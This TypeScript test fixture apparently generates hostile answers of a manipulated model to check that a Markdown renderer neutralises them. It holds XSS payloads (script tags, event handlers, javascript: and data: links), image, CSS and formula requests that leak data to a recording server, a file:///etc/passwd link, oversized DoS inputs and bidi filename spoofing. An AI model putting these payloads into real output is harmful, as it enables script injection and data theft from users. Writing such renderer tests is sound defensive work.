/** A hostile text, and words in it that must stay readable. */
export interface HostileAnswer {
  readonly name: string;
  readonly text: string;
  readonly readable: string;
}

/** A line of a megabyte, as from a model that repeats itself. */
const longLineLength = 1_000_000;
const tableRows = 3_000;
const tableColumns = 40;
const nestedLevels = 5_000;

/**
 * Possible answers of a manipulated model.
 * @param elsewhere origin of a server that records every request; any request to it is a leak.
 */
export function hostileAnswers(elsewhere: string): readonly HostileAnswer[] {
  const url = (name: string): string => `${elsewhere}/leak/${name}`;
  return [
    {
      name: 'script',
      readable: 'after the script',
      text: `<script>window.hacked = 1</script><script src="${url('script')}"></script>
<img src=x onerror="window.hacked = 2"><svg onload="window.hacked = 3"><animate onbegin="window.hacked = 4"/></svg>
<iframe srcdoc="<script>parent.hacked = 5</script>"></iframe><object data="${url('object')}"></object>
<form action="${url('form')}"><button>Press</button></form><base href="${elsewhere}/"><meta http-equiv="refresh" content="0;url=${url('refresh')}">
<details open ontoggle="window.hacked = 6"><summary>x</summary></details>

after the script`,
    },
    {
      name: 'links that run',
      readable: 'after the links',
      text: `[one](javascript:window.hacked=1) [two](JaVaScRiPt:window.hacked=2) [three](<java\tscript:window.hacked=3>)
[four](data:text/html,<script>opener.hacked=4</script>) [five](vbscript:x) [six](&#106;avascript:window.hacked=6)
<javascript:window.hacked=7> [eight][ref] [nine](blob:x) [ten](file:///etc/passwd) [eleven](//${elsewhere.replace(/^https?:\/\//, '')}/leak/eleven)

[ref]: javascript:window.hacked=8

after the links`,
    },
    {
      name: 'images from elsewhere',
      readable: 'after the images',
      text: `![secret](${url('image?q=secret')}) ![](${url('plain')} "title") ![relative](/v1/kumiki/session)
![ref][image] <img src="${url('html')}"> ![svg](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9Indpbmrvdy5oYWNrZWQ9MSI+PC9zdmc+)
[![linked](${url('linked')})](https://example.com/)

[image]: ${url('reference')}

after the images`,
    },
    {
      name: 'styles',
      readable: 'after the styles',
      text: `<style>* { display: none !important } @import url(${url('import')});</style>
<link rel="stylesheet" href="${url('sheet')}"><div style="position:fixed;inset:0;background:url(${url('background')})">covers all</div>
<p class="fixed inset-0 z-50 bg-raised" id="root">classes of ours</p>

after the styles`,
    },
    {
      name: 'formulas that link and load',
      readable: 'after the formulas',
      text: String.raw`$\href{javascript:window.hacked=1}{x}$ $\url{javascript:window.hacked=2}$ $\includegraphics{${url('tex')}}$
$$\htmlStyle{position:fixed;inset:0}{x} \htmlClass{fixed}{y} \htmlData{a=b}{z}$$ $\def\a{\a\a}\a$ $\rule{1000000em}{1000000em}$

after the formulas`,
    },
    {
      name: 'a huge table',
      readable: 'cell 0 0',
      text: hugeTable(),
    },
    { name: 'a line of a megabyte', readable: 'begins', text: `begins ${'x'.repeat(longLineLength)}` },
    { name: 'a megabyte of openings', readable: 'begins', text: `begins ${'[![*_`$<'.repeat(longLineLength / 10)}` },
    {
      name: 'quotes and lists without end',
      readable: 'the core',
      text: `${'> '.repeat(nestedLevels)}the core\n\n${Array.from({ length: 300 }, (_, level) => `${'  '.repeat(level)}- the core`).join('\n')}`,
    },
    {
      name: 'broken Markdown',
      readable: 'after all that',
      text: `**bold *both** end* \`code \`\`\` [link](un closed ![image]( | a | b\n|--\n~~~ no end\n\`\`\`js\nconst a = 1;\n~~~\n\`\`\`\n$$ \\frac{1 $$ \\( x \n\n<div\n\n| a |\n|---|---|\n| b \n\nafter all that`,
    },
    {
      name: 'text that turns its direction',
      readable: 'plain',
      text: `plain \u202e gnp.exe \u2066\u2067\u2068 \u202d\u202b more \u200f and ${'\u0300'.repeat(2_000)} ${'\u202e'.repeat(500)}\u0000\ufeff\u2028\u2029 [safe](https://example.com/\u202egnp.exe)`,
    },
  ];
}

function hugeTable(): string {
  const row = (cell: (column: number) => string): string =>
    `| ${Array.from({ length: tableColumns }, (_, column) => cell(column)).join(' | ')} |`;
  const rows = Array.from({ length: tableRows }, (_, at) => row((column) => `cell ${at} ${column}`));
  return [row((column) => `head ${column}`), row(() => '---'), ...rows].join('\n');
}
